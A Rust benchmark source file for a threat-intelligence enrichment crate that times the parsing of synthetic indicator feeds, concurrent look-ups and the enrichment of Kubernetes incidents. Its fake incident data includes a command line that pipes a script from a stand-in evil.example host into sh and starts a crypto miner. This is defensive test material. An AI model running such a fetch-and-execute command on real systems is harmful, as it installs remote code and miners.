//! `cargo run --release -p hemostat-enrich --example bench_enrich [-- --quick] [--json]`: a feed of a million lines is read from its file and
//! exchanged while another thread looks things up, and incidents are enriched with that feed and 50,000 pods. Ends with 1 if a target is missed.

#![expect(
    clippy::print_stdout,
    clippy::print_stderr,
    clippy::cast_precision_loss,
    reason = "a bench prints its figures"
)]

use std::{
    collections::{BTreeMap, HashMap},
    fmt::Write as _,
    fs,
    process::ExitCode,
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::Instant,
};

use hemostat_enrich::{
    Classes, ClassesError, Feed, FeedReport, FeedSpec, Format, Intelligence, Limits,
    join::{Cluster, Flows, Sources, enrich},
    observe::{Observed, Seen},
    read::read,
};
use model::{Attribution, ImageScan, Incident, Timestamp};
use serde_json::json;

type Failure = Box<dyn std::error::Error>;

const NOW: Timestamp = Timestamp(1_790_000_000_000_000_000);
const PODS: usize = 50_000;
/// Good lines among the junk.
const GOOD: usize = 1000;

fn main() -> Result<ExitCode, Failure> {
    let given = |name: &str| std::env::args().any(|argument| argument == name);
    let lines = 1_000_000;
    let (rounds, incidents) = if given("--quick") { (3, 20_000) } else { (10, 200_000) };
    let mut report = Report { json: given("--json"), missed: 0 };
    let folder = std::env::temp_dir().join(format!("hemostat-bench-enrich-{}", std::process::id()));
    fs::create_dir(&folder)?;
    let done = measure(&folder, lines, rounds, incidents, &mut report);
    fs::remove_dir_all(&folder)?;
    done?;
    Ok(if report.missed == 0 { ExitCode::SUCCESS } else { ExitCode::FAILURE })
}

fn measure(
    folder: &std::path::Path,
    lines: usize,
    rounds: usize,
    incidents: usize,
    report: &mut Report,
) -> Result<(), Failure> {
    let all = Arc::new(Intelligence::default());
    for (format, name) in
        [(Format::Csv, "csv"), (Format::Misp, "misp"), (Format::Stix, "stix"), (Format::Plain, "plain")]
    {
        let path = folder.join(name);
        fs::write(&path, text(format, lines))?;
        let mut times = Vec::new();
        for _ in 0..if format == Format::Plain { rounds } else { 2 } {
            let begun = Instant::now();
            let feed = load(&path, format)?;
            times.push(begun.elapsed().as_secs_f64());
            if format == Format::Plain {
                report.once(feed.len(), feed.bytes());
                all.put(feed).map_err(|_| "too many feeds")?;
            }
        }
        let worst = times.iter().copied().fold(0.0, f64::max);
        report.line(&format!("{name}: {lines} lines read and indexed, slowest"), worst, "s", Some(3.0));
    }

    for format in [Format::Plain, Format::Csv] {
        let path = folder.join("junk");
        fs::write(&path, junk(format, lines * 3))?;
        let begun = Instant::now();
        let feed = load(&path, format)?;
        let took = begun.elapsed().as_secs_f64();
        if feed.len() != GOOD || feed.report.examples.len() > FeedReport::MAX_EXAMPLES {
            return Err(format!("of the junk {} indicators were taken, not {GOOD}", feed.len()).into());
        }
        let what = format!("{format:?}: {GOOD} indicators found among {} lines of junk", lines * 3);
        report.line(&what, took, "s", Some(9.0));
    }

    // Somebody looks things up all the time while the feed is exchanged.
    let (stop, looked) = (Arc::new(AtomicBool::new(false)), Arc::clone(&all));
    let stopped = Arc::clone(&stop);
    let looking = std::thread::spawn(move || {
        let mut times: Vec<f64> = Vec::with_capacity(10_000_000);
        let mut chance = Chance(7);
        while !stopped.load(Ordering::Relaxed) {
            let seen = Seen { what: observed(&mut chance), place: String::new() };
            let begun = Instant::now();
            let found = looked.snapshot().look_up(&seen, NOW).len();
            let took = begun.elapsed().as_secs_f64();
            std::hint::black_box(found);
            if times.len() < 10_000_000 {
                times.push(took);
            }
        }
        times
    });
    let path = folder.join("plain");
    for _ in 0..rounds {
        all.put(load(&path, Format::Plain)?).map_err(|_| "too many feeds")?;
    }
    stop.store(true, Ordering::Relaxed);
    let mut times = looking.join().map_err(|_| "the one who looks ended in a panic")?;
    report.quantiles("look-up while the feed is exchanged", &mut times, 5.0);

    let pods: HashMap<String, Attribution> = (0..PODS).map(pod).collect::<Result<_, serde_json::Error>>()?;
    let template: Incident = serde_json::from_value(incident())?;
    let snapshot = all.snapshot();
    let (classes, scans) = known_of_places()?;
    let mut chance = Chance(11);
    let mut times = Vec::with_capacity(incidents);
    let mut matches = 0;
    for _ in 0..incidents {
        let mut one = template.clone();
        one.pods[0].cgroup_uid = format!("uid-{}", chance.below(PODS));
        let begun = Instant::now();
        let uid = one.pods[0].cgroup_uid.clone();
        one.pods[0].attribution = pods.get(&uid).cloned().ok_or("a pod is missing")?;
        let known = Sources {
            intelligence: &snapshot,
            earlier: &[],
            classes: &classes,
            scans: &scans,
            cluster: Cluster::Known,
            flows: Flows::None,
            now: NOW,
        };
        let found = enrich(&one, &known);
        times.push(begun.elapsed().as_secs_f64());
        matches += found.intelligence.len();
    }
    report.line("matches of each incident", matches as f64 / incidents as f64, "", None);
    report.quantiles("enrichment of an incident of 16 findings, 50,000 pods", &mut times, 5.0);
    Ok(())
}

fn load(path: &std::path::Path, format: Format) -> Result<Feed, Failure> {
    let bytes = fs::read(path)?;
    Ok(read(&bytes, FeedSpec::new("bench", format), &Limits::default(), NOW, NOW)?)
}

/// The `n`-th indicator: addresses, networks, names, hashes and URLs, as feeds mix them.
fn indicator(n: usize) -> String {
    let (a, b, c) = (n / 65_536 % 128 + 64, n / 256 % 256, n % 256);
    match n % 20 {
        0..=10 => format!("{a}.{b}.{c}.{}", n % 251),
        11..=12 => format!("{a}.{b}.{c}.0/{}", 20 + n % 9),
        13 => format!("2001:db8:{:x}:{:x}::/64", n / 65_536, n % 65_536),
        14..=16 => format!("host{n}.evil{}.example", n % 1000),
        17 => format!("{n:064x}"),
        _ => format!("http://evil{}.example/{n}/payload.sh", n % 1000),
    }
}

fn text(format: Format, lines: usize) -> String {
    let mut text = String::with_capacity(lines * 60);
    let all = (0..lines).map(indicator);
    match format {
        Format::Plain => all.for_each(|one| text.extend([one.as_str(), "\n"])),
        Format::Csv => {
            text.push_str("indicator,confidence,last_seen,description\n");
            for one in all {
                let _ = writeln!(text, "\"{one}\",75,2026-09-01T00:00:00Z,\"a, miner\"");
            }
        }
        Format::Misp => {
            text.push_str("{\"Event\":{\"info\":\"bench\",\"Attribute\":[");
            for (n, one) in all.enumerate() {
                let comma = if n == 0 { "" } else { "," };
                let _ = write!(
                    text,
                    "{comma}{{\"type\":\"url\",\"value\":\"{one}\",\"to_ids\":true,\"timestamp\":\"1789990000\"}}"
                );
            }
            text.push_str("]}}");
        }
        Format::Stix => {
            text.push_str("{\"type\":\"bundle\",\"objects\":[");
            for (n, one) in all.enumerate() {
                let comma = if n == 0 { "" } else { "," };
                let _ = write!(
                    text,
                    "{comma}{{\"type\":\"indicator\",\"id\":\"indicator--{n}\",\"pattern_type\":\"stix\",\"name\":\"miner\",\
                     \"pattern\":\"[ipv4-addr:value = '{one}']\",\"valid_from\":\"2026-01-01T00:00:00Z\",\"confidence\":75}}"
                );
            }
            text.push_str("]}");
        }
    }
    text
}

/// Lines that are no indicators, or would be of everything, with a few good ones among them.
fn junk(format: Format, lines: usize) -> Vec<u8> {
    let mut text = Vec::with_capacity(lines * 40);
    if format == Format::Csv {
        text.extend_from_slice(b"indicator,confidence,last_seen,description\n");
    }
    for n in 0..lines {
        let good = n % (lines / GOOD) == 0;
        match n % 8 {
            _ if good => text.extend_from_slice(format!("198.{}.{}.7", n / 256 % 256, n % 256).as_bytes()),
            0 => text.extend_from_slice(b"0.0.0.0/0"),
            1 => text.extend_from_slice(b"::/0,100,,\"unclosed"),
            2 => text.extend_from_slice(&[0xff, 0xfe, b'\\', 0, 7]),
            3 => text.extend_from_slice(b"127.0.0.1"),
            4 => text.extend_from_slice(format!("<html>{n}</html>").as_bytes()),
            5 => text.extend_from_slice("a.".repeat(200).as_bytes()),
            6 => text.extend_from_slice(b"*.com"),
            _ => text.extend_from_slice(b"10.0.0.0/8"),
        }
        text.push(b'\n');
    }
    text
}

fn observed(chance: &mut Chance) -> Observed {
    let n = chance.below(2_000_000);
    match n % 4 {
        0 => Observed::Domain(format!("a.b.host{n}.evil{}.example", n % 1000)),
        1 => Observed::Url(format!("evil{}.example/{n}/payload.sh", n % 1000)),
        2 => Observed::Hash(n.to_be_bytes().repeat(4)),
        _ => Observed::Address(std::net::Ipv4Addr::from(0x4000_0000 + n as u32 * 64).into()),
    }
}

fn pod(n: usize) -> Result<(String, Attribution), serde_json::Error> {
    let facts = json!({
        "attribution": "resolved", "known": NOW.0, "source": "watch",
        "pod": {
            "uid": format!("uid-{n}"), "namespace": format!("team-{}", n % 200), "name": format!("web-{n}"),
            "labels": {"app": "web", "hemostat.dev/sensitivity": "high"}, "namespace_labels": {},
            "annotations": {"data.example.com/class": "c7"},
            "owners": [{"api_version": "apps/v1", "kind": "ReplicaSet", "name": "web-1", "uid": "r"},
                       {"api_version": "apps/v1", "kind": "Deployment", "name": "web", "uid": "d"}],
            "chain": "whole", "service_account": "web", "node": "n1", "network": "pod", "origin": "api",
            "addresses": ["10.0.0.1"], "created": 0, "deleted": null
        },
        "container": {"name": "web", "kind": "regular", "image": "web:1", "image_id": format!("sha256:{n:064x}")}
    });
    Ok((format!("uid-{n}"), serde_json::from_value(facts)?))
}

/// A policy of which the last rule fits, and a scan of every second image.
fn known_of_places() -> Result<(Classes, BTreeMap<String, ImageScan>), ClassesError> {
    let rules = (0..255).map(|n| format!("  - {{class: c{n}, namespaces: ['team-*-{n}', '*{n}-team']}}\n"));
    let policy = format!("classes:\n{}  - {{class: rest}}\n", rules.collect::<String>());
    let scan = |_: usize| ImageScan {
        at: NOW,
        scanner: "trivy".into(),
        known: 40,
        critical: 2,
        high: 9,
        fixable: 30,
        ids: vec!["CVE-2021-44228".into(); ImageScan::MAX_IDS],
    };
    let scans = (0..PODS).step_by(2).map(|n| (format!("sha256:{n:064x}"), scan(n))).collect();
    Ok((Classes::parse("policy", &policy)?, scans))
}

/// An incident of sixteen findings: connections, names that were asked for, and command lines with URLs.
fn incident() -> serde_json::Value {
    let finding = |n: usize| {
        let activity = match n % 3 {
            0 => json!({"activity": "connect", "protocol": "tcp", "local": {"addr": "10.0.0.1", "port": 1},
                        "remote": {"addr": format!("64.{n}.1.{n}"), "port": 443}}),
            1 => {
                json!({"activity": "dns_query", "name": format!("host{n}.evil{n}.example"), "record_type": 1,
                        "server": {"addr": "10.0.0.2", "port": 53}})
            }
            _ => json!({"activity": "exec", "requested": "/bin/sh"}),
        };
        json!({
            "id": format!("fnd-{n}"),
            "rule": {"id": "r", "title": "t", "level": "high", "techniques": [], "tactics": [], "reaction": "none"},
            "event": {
                "id": {"node": "n1", "epoch": 1, "seq": n}, "time": 0, "process": process(n), "parent": null, "ancestors": [],
                "exposure": "none", "activity": activity
            },
            "matched": {}, "count": 1, "first": 0, "last": 0, "ancestors": [process(n + 100)], "context": [], "reactions": [],
            "loss": {"from": 0, "to": 0, "lost": {}}
        })
    };
    json!({
        "id": "inc-1", "title": "t", "severity": "high", "state": "Open", "entities": [],
        "pods": [{"cgroup_uid": "uid-0", "container_id": "c", "node": "n1", "asked": 0, "attribution": {"attribution": "waiting"}}],
        "findings": (0..16).map(finding).collect::<Vec<_>>(), "findings_dropped": 0, "techniques": [], "first_event": 0, "opened": 0,
        "updated": 0, "contained": null, "verdict": null, "actions": [], "runs": [], "timeline": []
    })
}

fn process(n: usize) -> serde_json::Value {
    json!({
        "key": {"pid": n + 10, "start": 1}, "parent": null, "exe": "/bin/sh",
        "exe_file": {"inode": 1, "device": 1, "mode": 0, "uid": 0, "backing": "file"},
        "command_line": format!("sh -c 'curl -s http://evil{n}.example/{}/payload.sh | sh; ./miner -o 64.1.{n}.9:3333'", 18 + 20 * n),
        "args": [], "args_truncated": "no", "stdio": {"stdin": "unknown", "stdout": "unknown", "stderr": "unknown"}, "cwd": "/", "comm": "sh",
        "credentials": {"uid": 0, "gid": 0, "euid": 0, "egid": 0, "auid": null, "cap_effective": 0, "cap_permitted": 0},
        "namespaces": {"mount": 0, "pid": 0, "net": 0, "user": 0, "uts": 0, "ipc": 0, "cgroup": 0}, "tty": null, "cgroup": 1,
        "workload": {"kind": "unresolved", "cgroup": 1}, "origin": "exec", "exit": null
    })
}

struct Report {
    json: bool,
    missed: usize,
}

impl Report {
    fn once(&mut self, indicators: usize, bytes: usize) {
        if !self.json && self.missed == 0 {
            eprintln!("    {indicators} indicators in {:.1} MB", bytes as f64 / 1e6);
        }
    }

    fn quantiles(&mut self, what: &str, seconds: &mut [f64], most_ms: f64) {
        seconds.sort_by(f64::total_cmp);
        for (name, share, judged) in
            [("p50", 0.5, false), ("p99", 0.99, true), ("p99.9", 0.999, false), ("max", 1.0, false)]
        {
            let index = ((seconds.len().saturating_sub(1)) as f64 * share) as usize;
            let value = seconds.get(index).copied().unwrap_or(f64::NAN) * 1000.0;
            self.line(&format!("{what}, {name}"), value, "ms", judged.then_some(most_ms));
        }
    }

    fn line(&mut self, metric: &str, value: f64, unit: &str, at_most: Option<f64>) {
        let ok = at_most.is_none_or(|most| value <= most);
        self.missed += usize::from(!ok);
        if self.json {
            let line = json!({"bench": "enrich", "metric": metric, "value": value, "unit": unit, "target": at_most, "ok": ok, "peer": null});
            println!("{line}");
        } else {
            let target = at_most.map_or("–".to_owned(), |most| format!("≤ {most}"));
            println!("{metric:<64} {value:>12.4} {unit:<4} {target:>8} {}", if ok { "ok" } else { "MISS" });
        }
    }
}

/// xorshift64* (Vigna, 2016).
struct Chance(u64);

impl Chance {
    fn below(&mut self, below: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 33) as usize % below.max(1)
    }
}
